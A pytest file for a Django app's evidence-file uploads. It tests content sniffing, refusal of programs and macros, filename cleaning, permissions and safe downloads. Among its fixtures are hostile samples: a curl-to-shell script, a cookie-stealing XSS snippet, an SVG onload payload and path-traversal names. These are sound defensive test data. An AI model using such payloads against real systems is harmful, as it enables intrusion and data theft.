"""Evidence files (reports.evidence, reports.views_evidence): the type comes from the contents, programs, macros and
anything else are refused with nothing left behind, names are cleaned, only the unit's editors add while the report is
open, downloads are attachments that the browser never sniffs, and a sibling's file is 404."""

import datetime
import io
import os
import struct
import unicodedata
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.contrib.messages import get_messages
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import NoReverseMatch, include, path, reverse
from django.utils import timezone
from django.utils.translation import gettext as _

from accounts.permissions import ActionRefused
from config import urls as project_urls
from reports import evidence, services
from reports.models import Evidence, PeriodKind, ReportStatus, report_page_url
from targets.models import Figure
from tests.campaigns.factories import make_campaign
from uploads import files as uploads


def _urlpatterns():
    """The project's URLs, plus the evidence URLs until config/urls.py mounts them."""
    patterns = list(project_urls.urlpatterns)
    try:
        reverse("evidence_download", kwargs={"pk": 1}, urlconf="config.urls")
    except NoReverseMatch:
        patterns.append(path("reports/", include("reports.urls_evidence")))
    return patterns


urlpatterns = _urlpatterns()
pytestmark = [pytest.mark.django_db, pytest.mark.urls(__name__)]


# ------------------------------------------------------------------ sample files, built here


def pdf_bytes() -> bytes:
    return b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def image_bytes(fmt: str) -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buffer, format=fmt)
    return buffer.getvalue()


def docx_bytes() -> bytes:
    import docx

    document = docx.Document()
    document.add_paragraph("Báo cáo kết quả thi đua")
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def xlsx_bytes() -> bytes:
    import openpyxl

    workbook = openpyxl.Workbook()
    workbook.active["A1"] = "Sản lượng"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def odf_bytes(mimetype: str, extra: dict | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), mimetype)  # first and stored, as ODF asks
        archive.writestr("content.xml", '<?xml version="1.0"?><office:document-content/>', zipfile.ZIP_DEFLATED)
        archive.writestr(
            "META-INF/manifest.xml",
            f'<?xml version="1.0"?><manifest:manifest><manifest:file-entry manifest:full-path="/" '
            f'manifest:media-type="{mimetype}"/></manifest:manifest>',
            zipfile.ZIP_DEFLATED,
        )
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


def ole_bytes(*names: str) -> bytes:
    """A minimal OLE2 compound file (MS-CFB version 3, 512-byte sectors) whose root holds empty streams with these
    names: sector 0 is the FAT, the directory follows. Checked against olefile when it was written."""
    end, free, fat_sector, no_stream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    entries = ["Root Entry", *names]
    directory_sectors = -(-len(entries) // 4)
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        uploads.OLE_SIGNATURE,
        b"\0" * 16,
        0x3E,
        3,
        0xFFFE,
        9,
        6,
        b"\0" * 6,
        0,
        1,  # FAT sectors
        1,  # first directory sector
        0,
        4096,
        end,
        0,
        end,
        0,
    ) + struct.pack("<109I", 0, *([free] * 108))
    chain = [fat_sector] + [s + 1 for s in range(1, directory_sectors)] + [end]
    fat = struct.pack("<128I", *(chain + [free] * (128 - len(chain))))

    def entry(index: int, name: str) -> bytes:
        encoded = name.encode("utf-16-le") + b"\0\0"
        kind = 5 if index == 0 else 2
        child = 1 if index == 0 and len(entries) > 1 else no_stream
        right = index + 1 if 0 < index < len(entries) - 1 else no_stream
        return (
            encoded.ljust(64, b"\0")
            + struct.pack("<HBBIII", len(encoded), kind, 1, no_stream, right, child)
            + b"\0" * 16
            + struct.pack("<IQQIQ", 0, 0, 0, end, 0)
        )

    directory = b"".join(entry(i, name) for i, name in enumerate(entries))
    directory = directory.ljust(directory_sectors * 512, b"\0")
    return header + fat + directory


def macro_docx_bytes() -> bytes:
    source = zipfile.ZipFile(io.BytesIO(docx_bytes()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "[Content_Types].xml":
                data = data.replace(
                    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                    b"application/vnd.ms-word.document.macroEnabled.main+xml",
                )
            archive.writestr(info, data)
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")
    return buffer.getvalue()


def upload(name: str, content: bytes, content_type: str = "application/pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type=content_type)


def stored_files() -> list[Path]:
    root = Path(settings.MEDIA_ROOT)
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


# ------------------------------------------------------------------ fixtures


@pytest.fixture
def reports(tree, people):
    """Huyện Cao Lộc's campaign over Cao Lâu and Thạch Đạn; a draft report for each, due in the future."""
    campaign = make_campaign(tree.cao_loc, title="Chỉ thị thi đua", participants=[tree.cao_lau, tree.thach_dan])
    period = services.period_add(
        campaign=campaign,
        kind=PeriodKind.HALF,
        label="6 tháng đầu năm 2024",
        starts_on=datetime.date(2024, 1, 1),
        ends_on=datetime.date(2024, 6, 30),
        due_on=max(timezone.localdate() + datetime.timedelta(days=10), datetime.date(2024, 6, 30)),
    )
    cao_lau = services.report_for(period=period, unit=tree.cao_lau)
    thach_dan = services.report_for(period=period, unit=tree.thach_dan)
    return cao_lau, thach_dan


@pytest.fixture
def report(reports):
    return reports[0]


def _refused(report, user, file, match: str):
    with pytest.raises(ValidationError) as error:
        evidence.evidence_add(report=report, user=user, upload=file)
    assert match in " ".join(error.value.messages)
    assert Evidence.objects.count() == 0
    assert stored_files() == []
    return error.value


# ------------------------------------------------------------------ the type, from the contents


ACCEPTED = [
    ("bao-cao.pdf", pdf_bytes, "application/pdf", ".pdf"),
    ("anh-chup.png", lambda: image_bytes("PNG"), "image/png", ".png"),
    ("anh-chup.jpg", lambda: image_bytes("JPEG"), "image/jpeg", ".jpg"),
    ("bao-cao.docx", docx_bytes, uploads.DOCX.content_type, ".docx"),
    ("so-lieu.xlsx", xlsx_bytes, uploads.XLSX.content_type, ".xlsx"),
    ("bao-cao.odt", lambda: odf_bytes("application/vnd.oasis.opendocument.text"), uploads.ODT.content_type, ".odt"),
    (
        "so-lieu.ods",
        lambda: odf_bytes("application/vnd.oasis.opendocument.spreadsheet"),
        uploads.ODS.content_type,
        ".ods",
    ),
    (
        "bao-cao.doc",
        lambda: ole_bytes("WordDocument", "1Table", "\x05SummaryInformation"),
        "application/msword",
        ".doc",
    ),
    ("so-lieu.xls", lambda: ole_bytes("Workbook", "\x05SummaryInformation"), "application/vnd.ms-excel", ".xls"),
]


@pytest.mark.parametrize(("name", "make", "content_type", "extension"), ACCEPTED, ids=[a[0] for a in ACCEPTED])
def test_each_allowed_type_is_accepted(report, people, name, make, content_type, extension):
    content = make()
    # the browser's content type is ignored: it says octet-stream here
    item = evidence.evidence_add(
        report=report, user=people.officer, upload=upload(name, content, "application/octet-stream")
    )
    item.refresh_from_db()
    assert item.content_type == content_type and item.name == name and item.size == len(content)
    assert item.uploaded_by == people.officer and item.report == report
    import hashlib

    assert item.sha256 == hashlib.sha256(content).hexdigest()
    stored = Path(item.file.path)
    assert stored.read_bytes() == content
    assert stored.suffix == extension and stored.stem != Path(name).stem and len(stored.stem) == 32  # a uuid
    assert stored.is_relative_to(Path(settings.MEDIA_ROOT) / "evidence")


def test_the_type_is_decided_by_the_contents_not_the_name(report, people):
    item = evidence.evidence_add(
        report=report, user=people.officer, upload=upload("anh.jpg", pdf_bytes(), "image/jpeg")
    )
    assert item.content_type == "application/pdf"
    assert item.name == "anh.jpg.pdf" and item.file.name.endswith(".pdf")
    item = evidence.evidence_add(report=report, user=people.officer, upload=upload("bien-ban", docx_bytes()))
    assert item.name == "bien-ban.docx"


PROGRAMS = [
    ("an exe renamed .pdf", "bao-cao.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\0" * 200),
    ("an ELF binary", "bao-cao.pdf", b"\x7fELF\x02\x01\x01\x00" + b"\0" * 200),
    ("a shell script", "bao-cao.pdf", b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"),
    ("a Mach-O binary", "anh.png", b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\0" * 100),
]


@pytest.mark.parametrize(("label", "name", "content"), PROGRAMS, ids=[p[0] for p in PROGRAMS])
def test_programs_and_scripts_are_refused_whatever_their_name(report, people, label, name, content):
    error = _refused(report, people.officer, upload(name, content), "")
    assert error.messages == [_(uploads.ERR_PROGRAM) % {"name": name}]


OTHERS = [
    ("HTML named .pdf", "bao-cao.pdf", b"<!doctype html><html><script>alert(document.cookie)</script></html>"),
    ("SVG named .png", "anh.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    ("plain text", "ghi-chu.docx", "Ghi chú".encode()),
    ("a JAR (ZIP without office parts)", "bao-cao.docx", None),
    ("an ODF presentation", "trinh-chieu.odt", odf_bytes("application/vnd.oasis.opendocument.presentation")),
    ("an OLE2 file that is not Word or Excel", "cai-dat.doc", ole_bytes("\x05DocumentSummaryInformation", "Foo")),
    ("a damaged OLE2 file", "bao-cao.doc", uploads.OLE_SIGNATURE + b"\0" * 100),
    ("a damaged ZIP", "bao-cao.xlsx", b"PK\x03\x04" + b"\0" * 100),
]


@pytest.mark.parametrize(("label", "name", "content"), OTHERS, ids=[o[0] for o in OTHERS])
def test_other_contents_are_refused(report, people, label, name, content):
    if content is None:
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("META-INF/MANIFEST.MF", "Main-Class: X\n")
            archive.writestr("X.class", b"\xca\xfe\xba\xbe")
        content = buffer.getvalue()
    error = _refused(report, people.officer, upload(name, content), "")
    assert error.messages == [_(uploads.ERR_TYPE) % {"name": name}]


MACROS = [
    ("DOCM", "bao-cao.docx", macro_docx_bytes),
    ("DOC with macros", "bao-cao.doc", lambda: ole_bytes("WordDocument", "Macros")),
    ("XLS with macros", "so-lieu.xls", lambda: ole_bytes("Workbook", "_VBA_PROJECT_CUR")),
    (
        "ODT with Basic",
        "bao-cao.odt",
        lambda: odf_bytes("application/vnd.oasis.opendocument.text", {"Basic/Standard/Module1.xml": "<x/>"}),
    ),
]


@pytest.mark.parametrize(("label", "name", "make"), MACROS, ids=[m[0] for m in MACROS])
def test_files_with_macros_are_refused(report, people, label, name, make):
    error = _refused(report, people.officer, upload(name, make()), "")
    assert error.messages == [_(uploads.ERR_MACROS) % {"name": name}]


def test_too_large_is_refused_and_the_message_names_the_limit(report, people, monkeypatch):
    assert uploads.MAX_BYTES == 20 * 1024 * 1024 and uploads.limit_in_mb() == "20"
    assert "20 MB" in _(uploads.ERR_TOO_LARGE) % {"name": "x.pdf", "limit": uploads.limit_in_mb()}
    monkeypatch.setattr(uploads, "MAX_BYTES", 512 * 1024)
    content = pdf_bytes() + b"\0" * (512 * 1024)
    error = _refused(report, people.officer, upload("lon.pdf", content), "")
    assert error.messages == [_(uploads.ERR_TOO_LARGE) % {"name": "lon.pdf", "limit": "0,5"}]
    item = evidence.evidence_add(report=report, user=people.officer, upload=upload("vua.pdf", content[: 512 * 1024]))
    assert item.size == 512 * 1024


def test_an_empty_file_is_refused(report, people):
    _refused(report, people.officer, upload("rong.pdf", b""), "")


# ------------------------------------------------------------------ names


@pytest.mark.parametrize(
    ("raw", "clean"),
    [
        ("../../etc/passwd", "etcpasswd"),
        ("..\\..\\Báo cáo\x07 quý\x00 1.pdf", "Báo cáo quý 1.pdf"),
        (".htaccess", "htaccess"),
        ("bao-cao\u202efdp.exe", "bao-caofdp.exe"),  # the right-to-left override that disguises an extension
        ("  Biên   bản\n họp .pdf ", "Biên bản họp .pdf"),
        (unicodedata.normalize("NFD", "Xã Cao Lâu.pdf"), "Xã Cao Lâu.pdf"),
        ("", "tep-minh-chung"),
        ("...", "tep-minh-chung"),
        ("/\\\x01", "tep-minh-chung"),
        (None, "tep-minh-chung"),
    ],
)
def test_names_are_cleaned(raw, clean):
    result = uploads.clean_name(raw)
    assert result == clean and unicodedata.is_normalized("NFC", result)


def test_long_names_are_cut_to_200_characters_keeping_the_extension():
    name = uploads.clean_name("Báo cáo " * 40 + ".xlsx")
    assert len(name) <= 200 and name.endswith(".xlsx")
    assert len(uploads.clean_name("a" * 300)) == 200


def test_an_uploaded_name_with_a_path_and_control_characters_is_cleaned(report, people):
    file = upload("x.pdf", pdf_bytes())
    file._name = "..\\..\\Báo cáo\x07 quý 1.pdf"  # what a client may send, past Django's basename
    item = evidence.evidence_add(report=report, user=people.officer, upload=file)
    assert item.name == "Báo cáo quý 1.pdf"
    assert "/.." not in item.file.name and "\\" not in item.file.name


# ------------------------------------------------------------------ who, and when


@pytest.mark.parametrize("status", [ReportStatus.SUBMITTED, ReportStatus.APPROVED])
def test_only_a_draft_or_returned_report_takes_evidence(report, people, status):
    report.status = status
    report.save()
    error = _refused(report, people.officer, upload("bao-cao.pdf", pdf_bytes()), "")
    label = ReportStatus(status).label
    assert error.messages == [_(evidence.ERR_STATUS) % {"status": str(label).lower()}]


def test_a_returned_report_takes_evidence(report, people):
    report.status = ReportStatus.RETURNED
    report.save()
    assert evidence.evidence_add(report=report, user=people.officer, upload=upload("a.pdf", pdf_bytes())).pk


def test_a_closed_period_takes_no_evidence(report, people):
    period = report.period
    period.due_on, period.grace_days = timezone.localdate() - datetime.timedelta(days=10), 0
    period.save()
    report.refresh_from_db()
    _refused(report, people.officer, upload("a.pdf", pdf_bytes()), report.period.label)


@pytest.mark.parametrize("who", ["officer", "leader", "clerk", "province_admin", "superuser"])
def test_the_units_editors_add(report, people, who):
    item = evidence.evidence_add(report=report, user=getattr(people, who), upload=upload("a.pdf", pdf_bytes()))
    assert item.pk and evidence.evidence_can_edit(report=report, user=getattr(people, who))


@pytest.mark.parametrize("who", ["reviewer", "council", "sibling_officer", "other_reviewer"])
def test_others_do_not_add(report, people, who):
    with pytest.raises(ActionRefused):
        evidence.evidence_add(report=report, user=getattr(people, who), upload=upload("a.pdf", pdf_bytes()))
    assert not evidence.evidence_can_edit(report=report, user=getattr(people, who))
    assert Evidence.objects.count() == 0 and stored_files() == []


def test_a_figure_of_another_campaign_is_refused(report, people, tree):
    other = make_campaign(tree.cao_lau, title="Phong trào khác")
    foreign = Figure.objects.filter(indicator__section__campaign=other).first()
    with pytest.raises(ValidationError):
        evidence.evidence_add(report=report, user=people.officer, upload=upload("a.pdf", pdf_bytes()), figure=foreign)
    own = Figure.objects.filter(indicator__section__campaign=report.period.campaign).first()
    item = evidence.evidence_add(report=report, user=people.officer, upload=upload("a.pdf", pdf_bytes()), figure=own)
    assert item.figure == own


def test_a_failed_save_leaves_no_file(report, people, monkeypatch):
    def broken(self, *args, **kwargs):
        raise RuntimeError("database went away")

    monkeypatch.setattr(Evidence, "save", broken)
    with pytest.raises(RuntimeError):
        evidence.evidence_add(report=report, user=people.officer, upload=upload("a.pdf", pdf_bytes()))
    assert stored_files() == []


def test_delete_removes_the_row_and_then_the_file(report, people, django_capture_on_commit_callbacks):
    item = evidence.evidence_add(report=report, user=people.officer, upload=upload("a.pdf", pdf_bytes()))
    stored = Path(item.file.path)
    with django_capture_on_commit_callbacks(execute=True):
        evidence.evidence_delete(evidence=item, user=people.leader)
    assert not Evidence.objects.exists() and not stored.exists()


def test_delete_follows_the_same_rules(report, people):
    item = evidence.evidence_add(report=report, user=people.officer, upload=upload("a.pdf", pdf_bytes()))
    with pytest.raises(ActionRefused):
        evidence.evidence_delete(evidence=item, user=people.reviewer)
    report.status = ReportStatus.APPROVED
    report.save()
    with pytest.raises(ValidationError):
        evidence.evidence_delete(evidence=item, user=people.officer)
    assert Evidence.objects.filter(pk=item.pk).exists() and Path(item.file.path).exists()


# ------------------------------------------------------------------ the views


def _messages(response) -> list[str]:
    return [str(m) for m in get_messages(response.wsgi_request)]


def test_upload_through_the_page(client, report, people):
    client.force_login(people.officer)
    figure = Figure.objects.filter(indicator__section__campaign=report.period.campaign).first()
    response = client.post(
        reverse("evidence_upload", kwargs={"pk": report.pk}),
        {"file": upload("Báo cáo quý 1.pdf", pdf_bytes()), "figure": figure.pk},
    )
    assert response.status_code == 302
    assert response["Location"] == report_page_url(period_id=report.period_id, unit_id=report.unit_id)
    item = Evidence.objects.get()
    assert item.figure == figure and item.name == "Báo cáo quý 1.pdf"
    assert _messages(response) == [_("Evidence file “%(name)s” added.") % {"name": "Báo cáo quý 1.pdf"}]


def test_a_refused_upload_says_why_and_stores_nothing(client, report, people):
    client.force_login(people.officer)
    response = client.post(
        reverse("evidence_upload", kwargs={"pk": report.pk}), {"file": upload("bao-cao.pdf", b"MZ" + b"\0" * 64)}
    )
    assert response.status_code == 302
    assert _messages(response) == [_(uploads.ERR_PROGRAM) % {"name": "bao-cao.pdf"}]
    assert not Evidence.objects.exists() and stored_files() == []


def test_an_upload_over_the_limit_is_dropped_while_it_arrives(client, report, people, monkeypatch):
    monkeypatch.setattr(uploads, "MAX_BYTES", 100 * 1024)
    monkeypatch.setattr(evidence, "evidence_add", None)  # never reached: the file is dropped before the service
    client.force_login(people.officer)
    response = client.post(
        reverse("evidence_upload", kwargs={"pk": report.pk}),
        {"file": upload("lon.pdf", pdf_bytes() + b"\0" * 300 * 1024)},
    )
    assert response.status_code == 302
    assert _messages(response) == [_(uploads.ERR_TOO_LARGE) % {"name": "lon.pdf", "limit": "0,098"}]
    assert not Evidence.objects.exists() and stored_files() == []


def test_a_large_office_file_goes_through_a_temporary_file(client, report, people):
    """Above Django's 2,5 MB in memory the upload arrives as a temporary file: sniffed, hashed and stored the same."""
    source = zipfile.ZipFile(io.BytesIO(docx_bytes()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            archive.writestr(info, source.read(info))
        archive.writestr("word/media/image1.png", os.urandom(3 * 1024 * 1024))
    content = buffer.getvalue()
    client.force_login(people.officer)
    response = client.post(reverse("evidence_upload", kwargs={"pk": report.pk}), {"file": upload("lon.docx", content)})
    assert response.status_code == 302
    item = Evidence.objects.get()
    assert item.content_type == uploads.DOCX.content_type and item.size == len(content) > 3 * 1024 * 1024
    assert Path(item.file.path).read_bytes() == content


def test_an_upload_without_a_file(client, report, people):
    client.force_login(people.officer)
    response = client.post(reverse("evidence_upload", kwargs={"pk": report.pk}), {})
    assert response.status_code == 302 and _messages(response) == [_(uploads.ERR_NO_FILE)]
    assert not Evidence.objects.exists()


def test_upload_and_delete_check_csrf(report, people):
    client = Client(enforce_csrf_checks=True)
    client.force_login(people.officer)
    response = client.post(reverse("evidence_upload", kwargs={"pk": report.pk}), {"file": upload("a.pdf", pdf_bytes())})
    assert response.status_code == 403 and not Evidence.objects.exists()
    item = evidence.evidence_add(report=report, user=people.officer, upload=upload("a.pdf", pdf_bytes()))
    assert client.post(reverse("evidence_delete", kwargs={"pk": item.pk})).status_code == 403
    assert Evidence.objects.filter(pk=item.pk).exists()


def test_delete_through_the_page(client, report, people, django_capture_on_commit_callbacks):
    item = evidence.evidence_add(report=report, user=people.officer, upload=upload("a.pdf", pdf_bytes()))
    client.force_login(people.clerk)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("evidence_delete", kwargs={"pk": item.pk}))
    assert response.status_code == 302 and not Evidence.objects.exists() and stored_files() == []


def test_sibling_and_reviewer_posts(client, reports, people):
    report, sibling_report = reports
    sibling_item = evidence.evidence_add(
        report=sibling_report, user=people.sibling_officer, upload=upload("a.pdf", pdf_bytes())
    )
    client.force_login(people.officer)
    assert client.post(reverse("evidence_upload", kwargs={"pk": sibling_report.pk})).status_code == 404
    assert client.post(reverse("evidence_delete", kwargs={"pk": sibling_item.pk})).status_code == 404
    client.force_login(people.reviewer)
    file = upload("a.pdf", pdf_bytes())
    assert client.post(reverse("evidence_upload", kwargs={"pk": report.pk}), {"file": file}).status_code == 403
    assert client.post(reverse("evidence_delete", kwargs={"pk": sibling_item.pk})).status_code == 403
    assert Evidence.objects.count() == 1


def test_download_is_an_attachment_never_sniffed(client, report, people):
    content = pdf_bytes()
    item = evidence.evidence_add(report=report, user=people.officer, upload=upload("Báo cáo đợt 1.pdf", content))
    client.force_login(people.reviewer)  # the district reads the commune's evidence
    response = client.get(reverse("evidence_download", kwargs={"pk": item.pk}))
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == content
    assert response["Content-Disposition"] == (
        "attachment; filename=\"Bao cao dot 1.pdf\"; filename*=UTF-8''B%C3%A1o%20c%C3%A1o%20%C4%91%E1%BB%A3t%201.pdf"
    )
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"] == "application/pdf"
    assert "sandbox" in response["Content-Security-Policy"]


def test_office_files_download_as_octet_stream(client, report, people):
    item = evidence.evidence_add(report=report, user=people.officer, upload=upload("so-lieu.xlsx", xlsx_bytes()))
    client.force_login(people.officer)
    response = client.get(reverse("evidence_download", kwargs={"pk": item.pk}))
    assert response["Content-Type"] == "application/octet-stream"
    assert response["Content-Disposition"].startswith('attachment; filename="so-lieu.xlsx"; filename*=')


def test_a_missing_stored_file_is_404(client, report, people):
    item = evidence.evidence_add(report=report, user=people.officer, upload=upload("a.pdf", pdf_bytes()))
    os.remove(item.file.path)
    client.force_login(people.officer)
    assert client.get(reverse("evidence_download", kwargs={"pk": item.pk})).status_code == 404


def test_the_list_on_the_report_page(rf, report, people):
    from django.template.loader import render_to_string

    item = evidence.evidence_add(report=report, user=people.officer, upload=upload("Biên bản.pdf", pdf_bytes()))
    request = rf.get("/")
    request.user = people.officer
    figures = list(Figure.objects.filter(indicator__section__campaign=report.period.campaign))
    html = render_to_string(
        "reports/evidence/_list.html",
        {"report": report, "can_edit": True, "evidence_figures": figures},
        request=request,
    )
    assert "Biên bản.pdf" in html and reverse("evidence_download", kwargs={"pk": item.pk}) in html
    assert reverse("evidence_delete", kwargs={"pk": item.pk}) in html
    assert reverse("evidence_upload", kwargs={"pk": report.pk}) in html and 'enctype="multipart/form-data"' in html
    assert "INVALID[" not in html
    html = render_to_string("reports/evidence/_list.html", {"report": report, "can_edit": False}, request=request)
    assert "Biên bản.pdf" in html and "evidence_delete" not in html and 'type="file"' not in html
    assert "INVALID[" not in html


# ------------------------------------------------------------------ the permission matrix rows (GET, as there)

L = 302
SUBJECTS = (
    "anon",
    "officer",
    "leader",
    "clerk",
    "sibling_officer",
    "reviewer",
    "council",
    "province_admin",
    "other_reviewer",
    "superuser",
)
MATRIX = [
    ("evidence_download", "evidence_cao_lau", (L, 200, 200, 200, 404, 200, 200, 200, 404, 200)),
    ("evidence_download", "evidence_thach_dan", (L, 404, 404, 404, 200, 200, 200, 200, 404, 200)),
    ("evidence_upload", "report_cao_lau", (L, 405, 405, 405, 404, 403, 403, 405, 404, 405)),
    ("evidence_upload", "report_thach_dan", (L, 404, 404, 404, 405, 403, 403, 405, 404, 405)),
    ("evidence_delete", "evidence_cao_lau", (L, 405, 405, 405, 404, 403, 403, 405, 404, 405)),
]


@pytest.mark.parametrize(
    ("name", "obj", "subject", "status"),
    [(n, o, s, st) for n, o, row in MATRIX for s, st in zip(SUBJECTS, row, strict=True)],
)
def test_permission_matrix_rows(client, reports, people, name, obj, subject, status):
    report, sibling_report = reports
    objects = {
        "report_cao_lau": report,
        "report_thach_dan": sibling_report,
        "evidence_cao_lau": evidence.evidence_add(
            report=report, user=people.officer, upload=upload("a.pdf", pdf_bytes())
        ),
        "evidence_thach_dan": evidence.evidence_add(
            report=sibling_report, user=people.sibling_officer, upload=upload("b.pdf", pdf_bytes())
        ),
    }
    if subject != "anon":
        client.force_login(getattr(people, subject))
    response = client.get(reverse(name, kwargs={"pk": objects[obj].pk}))
    assert response.status_code == status
    if status == L:
        assert "/login/" in response["Location"]


def test_the_report_page_lists_the_files(client, report, people):
    try:
        url = reverse("report_detail", kwargs={"period_pk": report.period_id, "unit_pk": report.unit_id})
    except NoReverseMatch:
        pytest.skip("the report page is not there yet")
    item = evidence.evidence_add(report=report, user=people.officer, upload=upload("Biên bản họp.pdf", pdf_bytes()))
    client.force_login(people.officer)
    html = client.get(url).content.decode()
    assert "Biên bản họp.pdf" in html and reverse("evidence_download", kwargs={"pk": item.pk}) in html
    assert reverse("evidence_upload", kwargs={"pk": report.pk}) in html and "INVALID[" not in html
    client.force_login(people.reviewer)
    html = client.get(url).content.decode()
    assert "Biên bản họp.pdf" in html and reverse("evidence_upload", kwargs={"pk": report.pk}) not in html
